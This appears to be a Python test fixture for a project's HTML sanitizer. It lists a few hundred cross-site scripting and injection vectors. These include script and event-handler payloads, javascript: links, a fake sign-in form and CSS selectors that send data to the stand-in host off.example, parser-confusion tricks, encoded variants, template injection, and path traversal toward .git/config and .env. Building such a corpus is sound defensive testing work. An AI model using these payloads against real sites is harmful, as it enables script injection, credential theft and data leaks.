"""Ways in which text may try to run, to load or to send something: one of each class, written for this project.

``pwn()`` is what runs if one gets through; ``https://off.example`` is where a request would go. ``XSS_CORPUS`` may name
a JSON file with a list of others, which are then tried instead.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

OFF = "https://off.example"

VECTORS = [
    # scripts, in every dress
    "<script>pwn()</script>", "<ScRiPt >pwn()</sCrIpT >", "<script/src=https://off.example/a.js></script>",
    "<script src=//off.example/a.js>", "<script type=module>pwn()</script>", "<script>pwn()", "<script\n>pwn()</script\n>",
    "<scr<script>ipt>pwn()</scr</script>ipt>", "<<script>pwn()//<</script>", "<script>/*</script><script>*/pwn()</script>",
    "<script\x00>pwn()</script>", "<script\x0cdefer>pwn()</script>", "<script src=data:text/javascript,pwn()></script>",
    '<script type="importmap">{"imports":{"a":"https://off.example/a.js"}}</script>', '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://off.example/p"]}]}</script>',
    # handlers
    "<img src=x onerror=pwn()>", "<img src=x onerror=pwn()//", "<img/src=x/onerror=pwn()>", "<img src='x'onerror='pwn()'>",
    "<img src=x oNeRrOr\n=\npwn()>", "<img src=x onerror&#61;pwn()>", "<img src=`x` onerror=`pwn()`>", "<image src=x onerror=pwn()>",
    "<img src=x:x onerror=eval(atob('cHduKCk='))>", "<body onload=pwn()>", "<svg onload=pwn()>", "<svg/onload=pwn()>", "<svg><g onload=pwn()></g></svg>",
    "<input autofocus onfocus=pwn()>", "<select autofocus onfocus=pwn()>", "<textarea autofocus onfocus=pwn()>", "<a autofocus tabindex=0 onfocus=pwn() href=#>x</a>",
    "<details open ontoggle=pwn()><summary>x</summary></details>", "<video src=x onerror=pwn()></video>", "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()></audio>", "<marquee onstart=pwn()>x</marquee>", "<object data=x onerror=pwn()></object>", "<iframe onload=pwn()></iframe>",
    '<p style="animation:a" onanimationstart=pwn()>x</p>', "<p contenteditable onbeforeinput=pwn() onfocus=pwn() autofocus>x</p>",
    "<dialog open onclose=pwn()><form method=dialog><button autofocus>x</button></form></dialog>", "<p popover id=p onbeforetoggle=pwn()>x</p><button popovertarget=p>y</button>",
    "<p onpointerrawupdate=pwn() onmouseover=pwn() onwheel=pwn()>x</p>", "<img loading=lazy src=x onerror=pwn()>", "<body onhashchange=pwn() onpageshow=pwn() onresize=pwn()>",
    # addresses that run
    "<a href=javascript:pwn()>x</a>", "<a href='java\tscript:pwn()'>x</a>", "<a href='java\nscript:pwn()'>x</a>", "<a href=' &#1;javascript:pwn()'>x</a>",
    "<a href='&#106;avascript&colon;pwn()'>x</a>", "<a href='&#x6a;&#x61;vascript:pwn()'>x</a>", "<a href=JaVaScRiPt:pwn()>x</a>", "<a href='javascript&#58pwn()'>x</a>",
    "<a href=vbscript:pwn()>x</a>", "<a href='data:text/html,<script>pwn()</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://off.example/1'>x</a>", "<a href='filesystem:https://off.example/1'>x</a>", "<a href='view-source:javascript:pwn()'>x</a>",
    "<area href=javascript:pwn() shape=default>", "<map name=m><area href=javascript:pwn()></map><img usemap=#m src=x>", "<a href='//off.example\\@hub.example'>x</a>",
    "<a href='https:\\\\off.example'>x</a>", "<a href='\x01javascript:pwn()'>x</a>", "<a href='feed:javascript:pwn()'>x</a>", "<q cite=javascript:pwn()>x</q>",
    "<a target=_blank href=javascript:pwn() rel=opener>x</a>", "<a href='https://off.example/' ping='https://off.example/ping'>x</a>", "<a href=x xlink:href=javascript:pwn()>x</a>",
    # forms
    "<form action=javascript:pwn()><button>x</button></form>", "<form><button formaction=javascript:pwn()>x</button></form>", "<form action=https://off.example/><input name=password type=password><button>Sign in</button></form>",
    "<button form=f formaction=https://off.example/>x</button>", "<input type=image src=https://off.example/i.png formaction=javascript:pwn()>", "<isindex action=javascript:pwn() type=image>",
    "<form id=test></form><button form=test formaction=javascript:pwn()>x</button>", "<keygen autofocus onfocus=pwn()>",
    # frames, objects, whole pages
    "<iframe src=javascript:pwn()></iframe>", "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=parent.pwn()&gt;'></iframe>",
    "<iframe src=https://off.example/></iframe>", "<frameset onload=pwn()><frame src=https://off.example/></frameset>", "<object data=javascript:pwn()></object>",
    "<object data='data:text/html,<script>parent.pwn()</script>'></object>", "<embed src=javascript:pwn()>", "<embed src=https://off.example/a.swf>", "<applet code=https://off.example/A.class></applet>",
    "<portal src=https://off.example/></portal>", "<fencedframe src=https://off.example/></fencedframe>", "<base href=https://off.example/><img src=a.png>", "<meta http-equiv=refresh content='0;url=https://off.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>", "<meta http-equiv=set-cookie content=a=b>", "<meta name=referrer content=unsafe-url>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=https://off.example/a.css>", "<link rel=preload as=image href=https://off.example/a.png>", "<link rel=import href=https://off.example/a.html>", "<link rel=dns-prefetch href=//off.example>",
    "<link rel=manifest href=https://off.example/m.json>", "<html manifest=https://off.example/m>", "</body></html><script>pwn()</script>", "</main></article></div><img src=x onerror=pwn()>",
    # what loads without running
    "<img src=https://off.example/pixel.gif width=1 height=1>", "<img srcset='https://off.example/a.png 1x, //off.example/b.png 2x'>", "<picture><source srcset=https://off.example/a.webp><img src=a></picture>",
    "<video poster=https://off.example/p.jpg src=https://off.example/v.mp4 autoplay></video>", "<audio autoplay src=https://off.example/a.mp3></audio>", "<track src=https://off.example/t.vtt>",
    "<table background=https://off.example/b.png><tr><td>x</td></tr></table>", "<body background=https://off.example/b.png>", "<img lowsrc=https://off.example/l.png>", "<bgsound src=https://off.example/s.mid>",
    # style
    "<style>@import 'https://off.example/a.css';</style>", "<style>*{background:url(https://off.example/b.png)}</style>", "<p style='background:url(https://off.example/b.png)'>x</p>",
    "<p style='width:expression(pwn())'>x</p>", "<p style=\"-moz-binding:url('https://off.example/x.xml#a')\">x</p>", "<style>input[value^=a]{background:url(//off.example/a)}</style>", "<p style=position:fixed;inset:0;z-index:9>x</p>",
    # drawings and formulas
    "<svg><script>pwn()</script></svg>", "<svg><script href=https://off.example/a.js /></svg>", "<svg><a xlink:href=javascript:pwn()><text y=9>x</text></a></svg>", "<svg><animate onbegin=pwn() attributeName=x dur=1s />",
    "<svg><a><animate attributeName=href values=javascript:pwn() /><text y=9>x</text></a></svg>", "<svg><set attributeName=onmouseover to=pwn() /></svg>", "<svg><use href=https://off.example/s.svg#a /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#a' /></svg>", "<svg><foreignObject><iframe src=javascript:pwn()></iframe></foreignObject></svg>",
    "<svg><image href=https://off.example/i.png /></svg>", "<svg><filter><feImage href=https://off.example/i.png /></filter></svg>", "<svg><style><img src=x onerror=pwn()></style></svg>", "<svg><title><img src=x onerror=pwn()></title></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn()&gt;">', "<math href=javascript:pwn()>x</math>", "<math><annotation-xml encoding=text/html><img src=x onerror=pwn()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>", '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
    # texts that end what they stand in
    '"><img src=x onerror=pwn()>', "'><img src=x onerror=pwn()>", '" onmouseover=pwn() autofocus onfocus=pwn() x="', "' onfocus=pwn() autofocus x='", "</title><script>pwn()</script>", "</textarea><script>pwn()</script>",
    "</style><script>pwn()</script>", "--><script>pwn()</script>", "--!><img src=x onerror=pwn()>", "<!--><img src=x onerror=pwn()>-->", "<!--[if gte IE 4]><script>pwn()</script><![endif]-->", "<![CDATA[><img src=x onerror=pwn()>]]>",
    "]]><script>pwn()</script>", "</script><script>pwn()</script>", '{"@type":"X","a":"</script><svg onload=pwn()>"}', '<xmp><p title="</xmp><img src=x onerror=pwn()>">', "<plaintext><img src=x onerror=pwn()>", "<template><script>pwn()</script></template>",
    "<?xml version=1?><script xmlns='http://www.w3.org/1999/xhtml'>pwn()</script>", "<?php echo 1 ?><img src=x onerror=pwn()>", "<%= pwn() %>",
    # in other spellings
    "&lt;script&gt;pwn()&lt;/script&gt;", "&amp;lt;img src=x onerror=pwn()&amp;gt;", "%3Cscript%3Epwn()%3C/script%3E", "\\u003cscript\\u003epwn()\\u003c/script\\u003e", "+ADw-script+AD4-pwn()+ADw-/script+AD4-", "\ufeff<script>pwn()</script>",
    "\u202e<script>pwn()</script>", "\u2028<img src=x onerror=pwn()>", "<\u017fcript>pwn()</\u017fcript>", "\uff1cscript\uff1epwn()\uff1c/script\uff1e", "<img src=x onerror\u00a0=pwn()>", "<a\u0338 href=javascript:pwn()>x</a>",
    # in the languages of the house
    "{{ 7 * 7 }}<img src=x onerror=pwn()>", "{% raw %}</script>{% endraw %}", "{{ ''.__class__.__mro__ }}", "{attach}../../.git/config", "|static|../.env", "{filename}/../feeds.yml", "[x](javascript:pwn())", "![x](https://off.example/m.png)",
    "<javascript:pwn()>", "[x]: javascript:pwn()\n[x]", "---\ntitle: x\nsave_as: index.html\n---\n<script>pwn()</script>", "## @ada 2026-03-05\n<script>pwn()</script>", "Status: draft\nTemplate: ../../x\n\n<script>pwn()</script>",
    # names that a page might use
    "<img name=body src=x onerror=pwn()>", "<form id=main><input name=innerHTML></form>", "<a id=__proto__ href=javascript:pwn()>x</a>", "<div id=main onclick=pwn()>x</div>", "<p is=x-y slot=z part=p>x</p>",
]  # fmt: skip


def vectors() -> list[str]:
    """Ours, or those of the file that XSS_CORPUS names."""
    corpus = os.environ.get("XSS_CORPUS")
    if not corpus:
        return VECTORS
    return [str(one) for one in json.loads(Path(corpus).read_text(encoding="utf-8"))]
